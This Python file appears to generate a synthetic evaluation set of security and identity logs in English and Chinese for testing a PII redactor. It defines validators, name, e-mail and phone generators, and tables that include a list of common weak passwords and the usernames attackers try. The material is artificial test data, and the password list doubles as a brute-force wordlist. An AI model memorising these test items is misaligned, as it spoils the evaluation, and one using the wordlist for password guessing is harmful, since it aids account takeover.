"""Blind evaluation set 10 -- security operations & identity logs (EN/ZH mixed).

Provenance
----------
Written blind on 2026-12-05 from general knowledge of the named software and
how it prints its logs.  No project code, tests, rules, docs, seeds, curation
material or other evaluation sets were read while writing it, and the
redactor was never imported or run.  Only the Python standard library, Faker
and phonenumbers are used.

API
---
``blind_log10(n, seed=0) -> list[dict]`` returns ``n`` records::

    {"text": str,
     "spans":  [[start, end, TYPE], ...],   # PII to be redacted
     "decoys": [[start, end, KIND], ...],   # look-alikes that must survive
     "template": int}                       # 0..K-1

Offsets are Python ``str`` code-point offsets and ``text[start:end]`` is the
value exactly as printed (percent-encoded, JSON-escaped, ``\\u``-escaped or
XML-escaped where the line prints it so).  Spans never overlap each other or a
decoy; a planted value never occurs unlabelled elsewhere in its line (it may
occur inside another span, e.g. a login inside an e-mail address).  One
``random.Random(seed)`` drives everything (Faker instances are seeded from
it), so output is deterministic per seed.  Templates are used round-robin
over one shuffled order.  About one record in ten is "clean": every planted
value is replaced by a masked placeholder (recorded as decoy ``masked``) or a
dash.  Every record has 0-3 spans and 0-3 decoys.  ``validate(records)``
checks all of this (Luhn, GB 11643, IBAN mod-97, phonenumbers validity,
offsets, overlap, uniqueness) and raises ``AssertionError`` on the first
problem; ``python pii_logs_blind10.py`` generates 5,000 lines with seed 0,
validates them and prints counts per TYPE and KIND.

Value generators
----------------
* PERSON -- Faker en_US/en_GB/de_DE/fr_FR/es_ES/zh_CN/zh_TW/ja_JP (romanised)
  plus an own surname/given-name table with pinyin (incl. compound surnames
  欧阳/司马/诸葛/上官... and rare ones 禤/仉/亓/庹...), so that Chinese names,
  logins (zhangwei, zhang.wei, wei_zhang) and mail locals agree; western
  logins jsmith / john.smith / john_smith (ASCII-folded).
* EMAIL_ADDRESS -- name/pinyin locals at corporate and free-mail domains,
  numeric QQ addresses; sometimes %40-encoded or inside escaped JSON.
* PHONE_NUMBER -- phonenumbers example mobiles of 30 regions with random tails
  kept only if valid (E164/INTERNATIONAL/NATIONAL); Chinese mobiles and
  landlines in the usual print styles.
* CREDIT_CARD -- Luhn-valid Visa/MC/Amex/Discover/JCB/UnionPay/Diners/
  Maestro, 13-19 digits, plain/spaced/dashed.
* IBAN_CODE -- DE/GB/FR/ES/IT/NL/CH/BE/AT/PL/SA/AE with correct mod-97,
  compact or grouped by four.
* US_SSN -- valid area/group/serial, dashed.
* CN_RESIDENT_ID -- real area codes, plausible birth dates, GB 11643 check.
* PASSPORT -- CN/US/GB/DE/FR/JP/IN formats, always right after a passport word.
* LICENSE_PLATE -- Chinese plates (incl. new-energy), with/without middle dot.
* IP_ADDRESS -- public/private IPv4 and global IPv6 of users and attackers.
* CREDENTIAL -- passwords (weak, tried, strong with symbols), AKIA/ASIA key
  ids, AWS secrets, ghp_, xoxb-, sk_live_, AIza keys, eyJ... JWTs, session
  ids, NTLM hashes.

Label conventions
-----------------
* Any address of a person's account (incl. numeric QQ) -> EMAIL_ADDRESS;
  role mailboxes (security@, noreply@, postmaster@ ...) -> decoy role_mailbox.
* Client / user / attacker / victim-workstation address -> IP_ADDRESS;
  server / upstream / resolver / DC / sensor / firewall interface address ->
  decoy server_ip.
* Surname before a title (王先生, 李经理, Mr. Smith) -> PERSON on the surname;
  "王建国主任" -> PERSON on 王建国.  Historical / fictional people -> decoy
  public_figure; brands named after people -> company; places -> place.
* Passwords (also tried ones), API keys, session ids, bearer tokens (token
  only), URL password part, captured NTLM hashes -> CREDENTIAL.
* Person-like logins (jsmith, zhang.wei, CORP\\jdoe -> jdoe) -> PERSON;
  root/admin/administrator/www-data/svc-*/SYSTEM/HOST$/jenkins -> decoy
  system_account.
* Order/trace/event/rule/signature ids, UUIDs, epoch timestamps, hashes,
  MACs, ports, PIDs -> decoys where they look like a phone, card or id.
* Postal addresses are left unlabelled; hostnames are decoys (hostname) and
  never contain a person's name.
* Decoy KINDs used: server_ip, hostname, uuid, system_account, event_id,
  timestamp_digits, place, masked, hash, rule_id, signature_id, user_id,
  role_mailbox, serial_number, ticket_id, process_id, account_id, mac_address,
  domain, public_figure, company, order_id, trace_id, session_ref, version.
  Deliberately hard ones: Luhn-valid 16-digit flow/order ids, 11-digit alert
  ids starting with 1, 18-digit serials failing GB 11643, 12-digit EDR PIDs,
  sha256/md5 sample hashes beside 32-hex NTLM credentials, server IPs beside
  client IPs, masked phones (138****1234) beside real ones.

Template table
--------------
No. name                         what it prints (main labels)
 0  suricata_eve_alert           EVE alert JSON; attacker src_ip, log4j callback IP (dest_ip, Luhn flow_id, sid decoys)
 1  suricata_eve_http            EVE http JSON; client IP, %40 e-mail / login+password / sid in URL
 2  zeek_http_log                http.log TSV; orig_h, basic-auth username/password (ts, uid, resp_h decoys)
 3  sshd_auth                    sshd Failed/Accepted/pam_unix lines; login, client IP
 4  okta_system_log              Okta System Log JSON; alternateId, displayName, client IP
 5  azure_ad_signin              Entra ID sign-in JSON; displayName, UPN, IP (device name, city decoys)
 6  cloudtrail_console_login     ConsoleLogin JSON; IAM user (arn + userName), source IP
 7  windows_4625_xml             Security 4625/4624 XML; TargetUserName, IpAddress
 8  cowrie_json                  Cowrie login/command JSON; tried password (twice), src_ip
 9  symantec_dlp_card            DLP syslog; sender login, card / SSN / holder (Luhn order no decoy)
10  zh_incident_report           安全事件分析报告 sentences; 员工姓名, 账号邮箱, IP
11  zh_data_leak_bulletin        数据泄露事件通报; 姓名, 身份证, 手机 (18-digit batch no fails GB 11643)
12  zh_situational_awareness     态势感知告警; 攻击IP, 受害终端IP, 通知人 (11-digit 告警ID)
13  zh_police_report             网安警情; 报警人姓氏, 电话, 银行卡/身份证
14  jumpserver_command_audit     JumpServer 命令记录 JSON; 姓名(login), password in command
15  snort_fast_alert             Snort alert_fast; attacker / internal host IP, C2 IP
16  modsecurity_json_audit       ModSecurity v3 JSON audit; client_ip, form password / e-mail, PHPSESSID
17  paloalto_traffic_csv         PAN-OS TRAFFIC CSV; source IP, domain\\user
18  pfsense_filterlog            filterlog CSV; blocked source IP
19  cisco_asa_anyconnect         ASA 113039/722051/113019/113005/716001; user, public + assigned IP
20  globalprotect_system_log     PAN-OS GlobalProtect system log; login IP, user, private IP
21  auth0_log                    Auth0 tenant log JSON; user_name e-mail, IP, SMS phone
22  duo_auth_log                 Duo v2 auth log JSON; access IP, auth device phone, user
23  gworkspace_login_audit       Google Workspace login activity JSON; actor e-mail, IP
24  cloudtrail_assumerole        AssumeRole JSON; AKIA/ASIA key ids, caller IP
25  auditd_user_auth             auditd USER_AUTH/USER_ACCT; acct, hostname/addr IP
26  auditd_execve                auditd EXECVE; password in argv, login
27  fail2ban                     fail2ban Ban/Found/Unban; IP
28  sudo_syslog                  sudo syslog; user, PWD home, password in COMMAND
29  windows_4624_rendered        4624 rendered text via MSWinEventLog; account, source IP
30  windows_4720_4740_rendered   4740 lock-out / 4720 account created; account names
31  sysmon_1_process_create      Sysmon 1 XML; net use / schtasks / psexec / wmic passwords, user
32  sysmon_3_network             Sysmon 3 XML; user, SourceIp, C2 DestinationIp
33  powershell_4104_winlogbeat   4104 script block JSON; SecureString password or bearer JWT, user
34  edr_detection_json           EDR detection JSON; user, local IP, pass-the-hash NTLM
35  cisco_esa_mail_log           ESA mail_logs; From/To e-mail, sender IP (brand + Luhn order no negative)
36  mimecast_impersonation_json  impersonation JSON; recipient, sender IP, impersonated name
37  purview_dlp_rule_match       Purview DlpRuleMatch JSON; UserId/From, SSN/IBAN/card/passport/身份证
38  siem_notable_summary         Splunk ES notable / QRadar LEEF offense; src IP, user
39  impacket_secretsdump         secretsdump lines; account, NT hash / aes key / cleartext
40  trufflehog_finding           trufflehog JSON; committer name + \\u003c e-mail \\u003e, raw secret
41  aws_vpc_flow_log             VPC flow log v2; attacker / exfil IP
42  zeek_conn_log                conn.log TSV; orig_h
43  freeradius_auth              FreeRADIUS Auth lines; user, password (twice), cli IP
44  zh_phishing_disposal         钓鱼邮件处置记录; 发信IP, 点击员工, 邮箱
45  zh_shift_handover            值班交接记录; 值班人/接班人, IP / 电话 / 邮箱
46  zh_sangfor_ac_behavior       深信服 AC 应用控制/URL访问; 姓名(login), 源IP
47  zh_sangfor_ac_mail_audit     深信服 AC 邮件外发审计; login, 发件人/收件人
48  zh_qianxin_tianqing_alert    天擎终端告警; IP, 登录用户 (also in path)
49  zh_360_endpoint_json         360 终端 JSON (\\u-escaped); user, client_ip
50  zh_nsfocus_ips               绿盟 IPS; 源IP, 弱口令 用户名/密码
51  zh_dbapp_waf                 安恒 WAF; URL login/password (percent-encoded), 客户端IP
52  zh_shterm_bastion_session    齐治堡垒机 会话审计; 运维人员, 来源IP
53  zh_db_audit                  数据库审计; 客户端IP, 手机/身份证 in SQL
54  zh_hfish_honeypot            HFish 告警; 攻击IP, 密码
55  zh_iam_lockout               统一身份认证 锁定; 姓名(login), 来源IP
56  zh_antifraud_iban            反诈预警; 员工, 境外 IBAN, 收款人
57  zh_ir_passport               应急响应记录; 外籍/出差员工, 护照号, 域账号
58  zh_parking_leak              停车场/门禁 拖库; 车牌, 车主, 电话
59  zh_dingtalk_new_device       钉钉/企业微信/飞书 新设备登录; 姓名, 手机 (or masked), IP
60  zh_coremail_remote_login     Coremail 异地登录; 邮箱, IP
61  zh_topsec_sslvpn             天融信 SSL VPN; user, src, vip
62  zh_pentest_weak_password     渗透测试发现; 弱口令 login/password, 姓名
63  zh_insider_leak_notice       内部通报; 客户姓名, 手机, 银行卡
64  zh_soc_alert_json            安全运营平台告警 JSON (中文键); 攻击者IP, 受害者IP, 登录用户
65  zh_credential_stuffing       业务风控 撞库; 来源IP, 两个手机号
66  sir_ticket_work_note         SIR work notes; Mr./Ms. surname, IP, SSN, reply-to e-mail
67  keycloak_event               Keycloak event log; ipAddress, username
68  openvpn_server_log           OpenVPN server log; peer IP (twice), username, pool IP
69  zh_phish_drill_result        钓鱼演练结果; 员工, 手机 (工号 decoy)
70  zh_endpoint_dlp_usb          终端DLP U盘拷贝; 姓名(login), 身份证样例
"""
from __future__ import annotations

import base64
import hashlib
import ipaddress
import json
import random
import re
import string
import unicodedata
import uuid as _uuid
from datetime import datetime, timedelta, timezone
from urllib.parse import quote, quote_plus, unquote
from xml.sax.saxutils import escape as _xml_escape
from xml.sax.saxutils import unescape as _xml_unescape

import phonenumbers
from faker import Faker

TYPES = (
    "PERSON", "EMAIL_ADDRESS", "PHONE_NUMBER", "CREDIT_CARD", "IBAN_CODE",
    "US_SSN", "CN_RESIDENT_ID", "PASSPORT", "LICENSE_PLATE", "IP_ADDRESS",
    "CREDENTIAL",
)
DECOY_KINDS = (
    "server_ip", "order_id", "public_figure", "masked", "uuid", "version",
    "trace_id", "timestamp_digits", "company", "place", "system_account",
    "ticket_id", "user_id", "hash", "event_id", "port", "rule_id",
    "signature_id", "mac_address", "process_id", "hostname", "domain",
    "file_path", "role_mailbox", "account_id", "serial_number", "session_ref",
)

# ---------------------------------------------------------------------------
# static tables
# ---------------------------------------------------------------------------
ZH_SURNAMES = [
    ("王", "wang"), ("李", "li"), ("张", "zhang"), ("刘", "liu"), ("陈", "chen"),
    ("杨", "yang"), ("黄", "huang"), ("赵", "zhao"), ("吴", "wu"), ("周", "zhou"),
    ("徐", "xu"), ("孙", "sun"), ("马", "ma"), ("朱", "zhu"), ("胡", "hu"),
    ("郭", "guo"), ("何", "he"), ("林", "lin"), ("高", "gao"), ("罗", "luo"),
    ("郑", "zheng"), ("梁", "liang"), ("谢", "xie"), ("宋", "song"), ("唐", "tang"),
    ("许", "xu"), ("韩", "han"), ("冯", "feng"), ("邓", "deng"), ("曹", "cao"),
    ("彭", "peng"), ("曾", "zeng"), ("肖", "xiao"), ("田", "tian"), ("董", "dong"),
    ("潘", "pan"), ("袁", "yuan"), ("蔡", "cai"), ("蒋", "jiang"), ("余", "yu"),
    ("杜", "du"), ("叶", "ye"), ("程", "cheng"), ("魏", "wei"), ("苏", "su"),
    ("吕", "lv"), ("丁", "ding"), ("沈", "shen"), ("任", "ren"), ("姚", "yao"),
    ("卢", "lu"), ("钟", "zhong"), ("姜", "jiang"), ("崔", "cui"), ("谭", "tan"),
    ("陆", "lu"), ("范", "fan"), ("汪", "wang"), ("廖", "liao"), ("石", "shi"),
    ("金", "jin"), ("贾", "jia"), ("夏", "xia"), ("付", "fu"), ("方", "fang"),
    ("邹", "zou"), ("熊", "xiong"), ("白", "bai"), ("孟", "meng"), ("秦", "qin"),
    ("邱", "qiu"), ("侯", "hou"), ("江", "jiang"), ("尹", "yin"), ("薛", "xue"),
    ("闫", "yan"), ("段", "duan"), ("雷", "lei"), ("龙", "long"), ("黎", "li"),
    ("史", "shi"), ("陶", "tao"), ("贺", "he"), ("毛", "mao"), ("郝", "hao"),
    ("顾", "gu"), ("龚", "gong"), ("邵", "shao"), ("万", "wan"), ("覃", "qin"),
    ("武", "wu"), ("钱", "qian"), ("戴", "dai"), ("严", "yan"), ("莫", "mo"),
    ("孔", "kong"), ("向", "xiang"), ("常", "chang"),
]
ZH_COMPOUND = [
    ("欧阳", "ouyang"), ("司马", "sima"), ("诸葛", "zhuge"), ("上官", "shangguan"),
    ("皇甫", "huangfu"), ("令狐", "linghu"), ("慕容", "murong"), ("东方", "dongfang"),
    ("尉迟", "yuchi"), ("公孙", "gongsun"),
]
ZH_RARE = [
    ("禤", "xuan"), ("仉", "zhang"), ("亓", "qi"), ("庹", "tuo"), ("阚", "kan"),
    ("鄢", "yan"), ("昝", "zan"), ("笪", "da"), ("佘", "she"), ("逄", "pang"),
    ("隗", "wei"), ("冼", "xian"),
]
ZH_GIVEN = [
    ("伟", "wei"), ("芳", "fang"), ("娜", "na"), ("敏", "min"), ("静", "jing"),
    ("丽", "li"), ("强", "qiang"), ("磊", "lei"), ("军", "jun"), ("洋", "yang"),
    ("勇", "yong"), ("艳", "yan"), ("杰", "jie"), ("娟", "juan"), ("涛", "tao"),
    ("明", "ming"), ("超", "chao"), ("秀", "xiu"), ("霞", "xia"), ("平", "ping"),
    ("刚", "gang"), ("桂", "gui"), ("英", "ying"), ("华", "hua"), ("建", "jian"),
    ("国", "guo"), ("文", "wen"), ("辉", "hui"), ("鹏", "peng"), ("宇", "yu"),
    ("浩", "hao"), ("婷", "ting"), ("雪", "xue"), ("琳", "lin"), ("晨", "chen"),
    ("欣", "xin"), ("怡", "yi"), ("佳", "jia"), ("轩", "xuan"), ("梓", "zi"),
    ("涵", "han"), ("博", "bo"), ("然", "ran"), ("思", "si"), ("雨", "yu"),
    ("晓", "xiao"), ("东", "dong"), ("海", "hai"), ("志", "zhi"), ("斌", "bin"),
    ("凯", "kai"), ("俊", "jun"), ("峰", "feng"), ("红", "hong"), ("玲", "ling"),
    ("萍", "ping"), ("燕", "yan"), ("慧", "hui"), ("倩", "qian"), ("璐", "lu"),
    ("颖", "ying"), ("嘉", "jia"), ("瑶", "yao"), ("诗", "shi"), ("云", "yun"),
    ("春", "chun"), ("晴", "qing"), ("康", "kang"), ("泽", "ze"), ("睿", "rui"),
    ("航", "hang"), ("铭", "ming"), ("昊", "hao"), ("彤", "tong"), ("悦", "yue"),
]
_PINYIN = {}
for _c, _p in ZH_SURNAMES + ZH_COMPOUND + ZH_RARE + ZH_GIVEN:
    _PINYIN.setdefault(_c, _p)
TW_SURNAME_ROMAN = {
    "陳": "chen", "林": "lin", "黃": "huang", "張": "chang", "李": "lee",
    "王": "wang", "吳": "wu", "劉": "liu", "蔡": "tsai", "楊": "yang",
    "許": "hsu", "鄭": "cheng", "謝": "hsieh", "郭": "kuo", "洪": "hung",
    "曾": "tseng", "邱": "chiu", "廖": "liao", "賴": "lai", "徐": "hsu",
    "周": "chou", "葉": "yeh", "蘇": "su", "莊": "chuang", "呂": "lu",
    "江": "chiang", "何": "ho", "蕭": "hsiao", "羅": "lo", "高": "kao",
}
PUBLIC_FIGURES_EN = [
    "Sherlock Holmes", "Napoleon Bonaparte", "Alan Turing", "Ada Lovelace",
    "Julius Caesar", "Albert Einstein", "Winston Churchill", "Harry Potter",
    "Elon Musk", "Abraham Lincoln", "James Bond",
]
PUBLIC_FIGURES_ZH = ["孙悟空", "诸葛亮", "李白", "鲁迅", "秦始皇", "曹操", "林黛玉", "岳飞", "孔子"]
COMPANIES_EN = ["Dell", "Ford", "Siemens", "Porsche", "Ferrari", "Boeing", "Disney",
                "Hilton", "Dyson", "Johnson & Johnson", "McDonald's", "Kellogg"]
COMPANIES_ZH = ["李宁", "王老吉", "张小泉", "李锦记", "老干妈", "杨国福", "周大福", "陈李济"]
PLACES_ZH = ["北京市海淀区", "上海市浦东新区", "深圳市南山区", "杭州市西湖区", "广州市天河区",
             "成都市高新区", "南京市江宁区", "武汉市洪山区", "江苏省南京市", "广东省东莞市",
             "浙江省温州市", "香港", "新加坡", "美国加利福尼亚州", "荷兰阿姆斯特丹", "俄罗斯莫斯科"]
CITIES_EN = [("Ashburn", "Virginia", "United States", "US"), ("Frankfurt am Main", "Hesse", "Germany", "DE"),
             ("Singapore", "Singapore", "Singapore", "SG"), ("Amsterdam", "North Holland", "Netherlands", "NL"),
             ("Shanghai", "Shanghai", "China", "CN"), ("Shenzhen", "Guangdong", "China", "CN"),
             ("London", "England", "United Kingdom", "GB"), ("Moscow", "Moscow", "Russia", "RU"),
             ("Lagos", "Lagos", "Nigeria", "NG"), ("Sao Paulo", "Sao Paulo", "Brazil", "BR"),
             ("Tokyo", "Tokyo", "Japan", "JP"), ("Seattle", "Washington", "United States", "US")]
CORP_DOMAINS = ["corp.cn", "acme-corp.com", "globex.de", "initech.co.uk", "hooli.io",
                "sinotrans-tech.com.cn", "fintech-sh.cn", "contoso.com", "example-bank.com.cn",
                "umbrella-labs.fr", "cyberdyne.jp", "northwind.es"]
FREE_MAIL = ["gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "163.com", "126.com",
             "qq.com", "sina.com", "foxmail.com", "gmx.de", "web.de", "orange.fr",
             "yahoo.co.jp", "protonmail.com", "icloud.com", "hotmail.co.uk"]
ROLE_LOCALS = ["security", "noreply", "no-reply", "postmaster", "soc", "abuse", "it-helpdesk",
               "alerts", "mailer-daemon", "notifications", "hr-notice", "admin"]
SYS_ACCOUNTS = ["root", "admin", "administrator", "www-data", "deploy", "jenkins", "svc-backup",
                "svc-sql", "svc-ldap-sync", "nginx", "oracle", "postgres", "ubuntu", "git", "ansible"]
TRIED_USERS = ["root", "admin", "ubuntu", "pi", "oracle", "postgres", "test", "user", "git",
               "support", "ftpuser", "guest", "mysql", "hadoop", "ec2-user", "centos"]
WEAK_PASSWORDS = ["123456", "password", "admin123", "1qaz@WSX", "P@ssw0rd", "qwe123!@#",
                  "toor", "raspberry", "changeme", "Aa123456", "123qwe", "abc123", "1q2w3e4r",
                  "Passw0rd!", "Admin@123", "Huawei@123", "qwerty123", "000000", "letmein",
                  "Zaq12wsx", "root@123", "12345678", "P@$$w0rd", "Test1234"]
CN_AREAS = ["110101", "110105", "110108", "310104", "310115", "440305", "440106", "440304",
            "330106", "330102", "510107", "420106", "320102", "320106", "370202", "500103",
            "610113", "210102", "350203", "430104", "120101", "330212", "410105", "130102",
            "340104", "360102", "450103", "530102", "220102", "230103", "140105", "620102"]
CN_PROVINCES = "京津沪渝冀豫云辽黑湘皖鲁新苏浙赣鄂桂甘晋蒙陕吉闽贵粤青藏川宁琼"
PLATE_LETTERS = "ABCDEFGHJKLMNPQRSTUVWXYZ"
PHONE_REGIONS = ["US", "GB", "DE", "FR", "ES", "IT", "NL", "JP", "KR", "SG", "HK", "TW",
                 "AU", "IN", "BR", "MX", "CA", "RU", "AE", "SA", "ZA", "SE", "CH", "MY",
                 "TH", "VN", "ID", "PH", "TR", "PL"]
_PHONE_TRY = ["CN"] + PHONE_REGIONS
CN_MOBILE_PREFIX = ["130", "131", "132", "133", "135", "136", "137", "138", "139", "150",
                    "151", "152", "153", "155", "156", "157", "158", "159", "166", "173",
                    "175", "176", "177", "178", "180", "181", "182", "183", "185", "186",
                    "187", "188", "189", "191", "193", "195", "198", "199"]
CN_LANDLINE_AREAS = ["10", "20", "21", "22", "23", "24", "25", "27", "28", "29",
                     "755", "571", "512", "532", "591", "731", "871", "574", "769"]
IBAN_SPEC = {  # country: (total length, bban layout)  n=digit a=upper letter c=alnum
    "DE": (22, "n" * 18), "GB": (22, "aaaa" + "n" * 14), "FR": (27, "n" * 23),
    "ES": (24, "n" * 20), "IT": (27, "a" + "n" * 10 + "c" * 12), "NL": (18, "aaaa" + "n" * 10),
    "CH": (21, "n" * 17), "BE": (16, "n" * 12), "AT": (20, "n" * 16), "PL": (28, "n" * 24),
    "SA": (24, "nn" + "c" * 18), "AE": (23, "n" * 19),
}
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
UA = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "python-requests/2.32.3", "curl/8.5.0", "Go-http-client/1.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)",
]


def _luhn_digit(body: str) -> str:
    total = 0
    for i, ch in enumerate(reversed(body)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return str((10 - total % 10) % 10)


def luhn_ok(digits: str) -> bool:
    return digits.isdigit() and _luhn_digit(digits[:-1]) == digits[-1]


_GB_W = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]


def gb11643_check(first17: str) -> str:
    s = sum(int(a) * b for a, b in zip(first17, _GB_W))
    return "10X98765432"[s % 11]


def cn_id_ok(v: str) -> bool:
    return (len(v) == 18 and v[:17].isdigit() and gb11643_check(v[:17]) == v[17].upper())


def _iban_num(s: str) -> int:
    return int("".join(str(int(ch, 36)) for ch in s))


def iban_ok(v: str) -> bool:
    s = v.replace(" ", "").upper()
    if not re.fullmatch(r"[A-Z]{2}\d{2}[A-Z0-9]{10,30}", s):
        return False
    spec = IBAN_SPEC.get(s[:2])
    if spec and len(s) != spec[0]:
        return False
    return _iban_num(s[4:] + s[:4]) % 97 == 1


def ssn_ok(v: str) -> bool:
    m = re.fullmatch(r"(\d{3})-?(\d{2})-?(\d{4})", v)
    if not m:
        return False
    a, g, s = m.groups()
    return a not in ("000", "666") and a[0] != "9" and g != "00" and s != "0000"


def _decode(v: str) -> str:
    if "\\" in v:
        try:
            v = json.loads('"' + v + '"')
        except ValueError:
            pass
    if "&" in v:
        v = _xml_unescape(v, {"&quot;": '"', "&apos;": "'"})
    if "%" in v:
        v = unquote(v)
    return v


def phone_ok(v: str) -> bool:
    s = _decode(v)
    try:
        if s.lstrip("(").startswith("+"):
            return phonenumbers.is_valid_number(phonenumbers.parse(s, None))
        for reg in _PHONE_TRY:
            try:
                n = phonenumbers.parse(s, reg)
            except phonenumbers.NumberParseException:
                continue
            if phonenumbers.is_valid_number(n):
                return True
    except phonenumbers.NumberParseException:
        return False
    return False


def _b64url(b: bytes) -> str:
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def _fold(s: str) -> str:
    s = s.replace("ß", "ss").replace("ø", "o").replace("æ", "ae")
    s = unicodedata.normalize("NFKD", s)
    return "".join(ch for ch in s if ch.isascii() and (ch.isalnum())).lower()


class Person:
    __slots__ = ("full", "surname", "given", "login", "local", "zh", "first", "last")

    def __init__(self, full, surname, given, login, local, zh, first="", last=""):
        self.full, self.surname, self.given = full, surname, given
        self.login, self.local, self.zh = login, local, zh
        self.first, self.last = first, last


# ---------------------------------------------------------------------------
# value generators
# ---------------------------------------------------------------------------
class Gen:
    WEST = ["en_US", "en_GB", "de_DE", "fr_FR", "es_ES"]

    def __init__(self, rng: random.Random):
        self.r = rng
        self.fk = {}
        for loc in self.WEST + ["zh_CN", "zh_TW", "ja_JP"]:
            f = Faker(loc)
            f.seed_instance(rng.randrange(2 ** 32))
            self.fk[loc] = f

    # -- small helpers -----------------------------------------------------
    def ch(self, seq):
        return self.r.choice(seq)

    def digits(self, n, first_nonzero=False):
        s = "".join(self.r.choice(string.digits) for _ in range(n))
        if first_nonzero and s[0] == "0":
            s = self.r.choice("123456789") + s[1:]
        return s

    def alnum(self, n, alphabet=string.ascii_letters + string.digits):
        return "".join(self.r.choice(alphabet) for _ in range(n))

    def hexs(self, n, upper=False):
        s = "".join(self.r.choice("0123456789abcdef") for _ in range(n))
        return s.upper() if upper else s

    # -- persons -----------------------------------------------------------
    def _zh_table(self):
        r = self.r
        x = r.random()
        s, sp = r.choice(ZH_COMPOUND if x < 0.12 else ZH_RARE if x < 0.2 else ZH_SURNAMES)
        gs = [r.choice(ZH_GIVEN) for _ in range(1 if r.random() < 0.3 else 2)]
        g = "".join(c for c, _ in gs)
        gp = "".join(p for _, p in gs)
        if s + g in PUBLIC_FIGURES_ZH:
            return self._zh_table()
        return Person(s + g, s, g, self._zh_login(sp, gp, gs), self._zh_login(sp, gp, gs), True)

    def _zh_login(self, sp, gp, gs):
        r = self.r
        k = r.randrange(7)
        if k == 0:
            v = sp + gp
        elif k == 1:
            v = sp + "." + gp
        elif k == 2:
            v = gp + "." + sp
        elif k == 3:
            v = sp + "_" + gp
        elif k == 4:
            v = sp + "".join(p[0] for _, p in gs)
        elif k == 5:
            v = gp + sp
        else:
            v = sp + gp + self.digits(r.choice([2, 3]))
        return v

    def _zh_faker(self):
        full = self.fk["zh_CN"].name()
        s = full[:2] if full[:2] in dict(ZH_COMPOUND) else full[0]
        g = full[len(s):]
        if not all(c in _PINYIN for c in full) or full in PUBLIC_FIGURES_ZH:
            return self._zh_table()
        sp = _PINYIN[s] if s in _PINYIN else "".join(_PINYIN[c] for c in s)
        gs = [(c, _PINYIN[c]) for c in g]
        gp = "".join(p for _, p in gs)
        return Person(full, s, g, self._zh_login(sp, gp, gs), self._zh_login(sp, gp, gs), True)

    def _tw(self):
        for _ in range(20):
            full = self.fk["zh_TW"].name()
            if full[0] in TW_SURNAME_ROMAN and len(full) in (2, 3):
                break
        else:
            return self._zh_table()
        rom = TW_SURNAME_ROMAN[full[0]]
        eng = _fold(self.fk["en_US"].first_name())
        login = self.ch([eng[0] + rom, eng + "." + rom, eng + "_" + rom])
        local = self.ch([eng + "." + rom, eng[0] + rom, rom + "." + eng])
        return Person(full, full[0], full[1:], login, local, True)

    def _west(self, loc=None, ja=False):
        if ja:
            f = self.fk["ja_JP"]
            first, last = f.first_romanized_name(), f.last_romanized_name()
        else:
            f = self.fk[loc or self.ch(self.WEST)]
            first, last = f.first_name(), f.last_name()
        fa, la = _fold(first), _fold(last)
        if len(fa) < 2 or len(la) < 2:
            return self._west(loc, ja)
        k = self.r.randrange(6)
        login = [fa[0] + la, fa + "." + la, fa + "_" + la, la + fa[0], fa + la[0], fa[0] + la + self.digits(2)][k]
        k = self.r.randrange(5)
        local = [fa + "." + la, fa[0] + la, fa + "_" + la, fa + la, fa + "." + la + self.digits(2)][k]
        return Person(first + " " + last, last, first, login, local, False, first, last)

    def person(self, kind="any"):
        r = self.r
        if kind == "any":
            kind = r.choices(["zh", "west", "tw", "ja"], [45, 42, 6, 7])[0]
        if kind == "zh":
            return self._zh_faker() if r.random() < 0.35 else self._zh_table()
        if kind == "tw":
            return self._tw()
        if kind == "ja":
            return self._west(ja=True)
        if kind == "cnwest":
            return self.person(r.choice(["zh", "zh", "west"]))
        return self._west(kind if kind in self.fk else None)

    def title_zh(self):
        return self.ch(["先生", "女士", "经理", "总", "工", "主任", "老师", "科长", "主管"])

    def title_en(self):
        return self.ch(["Mr.", "Ms.", "Mrs.", "Dr."])

    # -- e-mail ------------------------------------------------------------
    def email(self, p=None, corp=None, free=None):
        r = self.r
        if p is None:
            p = self.person()
        if free is None:
            free = r.random() < 0.3
        if free:
            if p.zh and r.random() < 0.3:
                return self.digits(r.randint(6, 11), True) + "@qq.com"
            dom = self.ch(FREE_MAIL)
        else:
            dom = corp or self.ch(CORP_DOMAINS)
        return p.local + "@" + dom

    def role_mail(self, dom=None):
        return self.ch(ROLE_LOCALS) + "@" + (dom or self.ch(CORP_DOMAINS))

    # -- phones ------------------------------------------------------------
    def cn_mobile_digits(self):
        while True:
            d = self.ch(CN_MOBILE_PREFIX) + self.digits(8)
            if phonenumbers.is_valid_number(phonenumbers.parse(d, "CN")):
                return d

    def cn_mobile(self, style=None):
        d = self.cn_mobile_digits()
        style = style if style is not None else self.r.choices(range(6), [10, 3, 2, 2, 2, 1])[0]
        return [d, f"{d[:3]}-{d[3:7]}-{d[7:]}", f"{d[:3]} {d[3:7]} {d[7:]}",
                f"+86 {d[:3]} {d[3:7]} {d[7:]}", "+86" + d, "+86-" + d][style]

    def cn_landline(self):
        while True:
            area = self.ch(CN_LANDLINE_AREAS)
            sub = self.ch("2345678") + self.digits(7)
            n = phonenumbers.parse("0" + area + sub, "CN")
            if phonenumbers.is_valid_number(n):
                break
        k = self.r.randrange(4)
        if k == 0:
            return f"0{area}-{sub}"
        if k == 1:
            return f"(0{area}){sub}"
        if k == 2:
            return f"0{area}-{sub[:4]}-{sub[4:]}" if len(sub) == 8 else f"0{area}-{sub}"
        return phonenumbers.format_number(n, phonenumbers.PhoneNumberFormat.INTERNATIONAL)

